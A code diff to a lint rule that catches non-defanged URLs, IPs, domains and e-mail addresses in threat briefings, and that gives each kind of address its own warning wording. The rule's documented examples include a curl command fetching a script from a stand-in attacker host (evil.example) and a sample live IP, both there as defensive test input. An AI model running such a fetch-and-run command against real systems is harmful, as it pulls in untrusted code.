@@ -13,8 +13,8 @@ import { shorten } from '../shorten.js'
 /**
  * A live address in the text: an indicator that is not defanged, or a reference that belongs in a note.
  *
- * Mail programs, PDF readers and the Markdown parser make links of them; one click takes the reader to the attacker. An
- * address is an indicator for sure, and an error, if it is a public IP address, if the same briefing defangs its host
+ * Mail programs, PDF readers and the Markdown parser make links of URLs, and mail programs of more; one click takes the
+ * reader to the attacker. What nobody can click is copied. An address is an indicator for sure, and an error, if it is a public IP address, if the same briefing defangs its host
  * elsewhere, or if the house lists the host in `indicators`; then it is one in code and behind `[words](…)` too. Any other
  * URL or domain in the text may be a reference, and is a warning.
  *
@@ -30,7 +30,7 @@ import { shorten } from '../shorten.js'
  *     curl https://www.evil.example/x.sh
  * ~~~
  * 1:59-1:81: The URL `https://evil.example/b` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxps[:]//evil[.]example/b`
- * 1:86-1:98: The IP address `45.33.32.156` is live: one click takes the reader there. Write `45.33.32[.]156`
+ * 1:86-1:98: The IP address `45.33.32.156` is live: copied into a browser, it takes the reader there. Write `45.33.32[.]156`
  * 3:10-3:39: The URL `https://www.evil.example/x.sh` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxps[:]//www[.]evil[.]example/x.sh`
  *
  * @bad
@@ -47,7 +47,7 @@ import { shorten } from '../shorten.js'
  *
  * <a href="https://evil.example/">Words</a>
  * ~~~
- * 2:5-2:17: The IP address `45.33.32.156` is live: one click takes the reader there. Write `45.33.32[.]156`
+ * 2:5-2:17: The IP address `45.33.32.156` is live: copied into a browser, it takes the reader there. Write `45.33.32[.]156`
  * 2:26-2:46: The URL `http://evil.example/` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxp[:]//evil[.]example/`
  * 4:1-4:33: The URL `https://evil.example/` is live, and the briefing defangs its host elsewhere: one click takes the reader there. Write `hxxps[:]//evil[.]example/`
  *
@@ -114,7 +114,7 @@ export default defineRule({
         report({
           at,
           place,
-          reason: `${shown} is live${because}: one click takes the reader there. Write \`${shorten(harmless)}\``,
+          reason: `${shown} is live${because}: ${dangers[indicator.kind]}. Write \`${shorten(harmless)}\``,
           ...(!isLink && { fix: { range: place, text: harmless } }),
           ...(cause && { cause: { ...cause, reason: 'It is defanged here' } }),
         })
@@ -124,6 +124,14 @@ export default defineRule({
 })
 
 const names = { url: 'URL', email: 'e-mail address', ip: 'IP address', domain: 'domain' }
+
+/** Nothing makes a link of a bare domain or IP address: neither the Markdown parser nor a PDF reader. */
+const dangers = {
+  url: 'one click takes the reader there',
+  email: 'one click begins a mail to it',
+  ip: 'copied into a browser, it takes the reader there',
+  domain: 'copied into a browser, it takes the reader there',
+}
 
 /** Whether an address is an indicator, with what tells so, or may be a reference. */
 function judge(
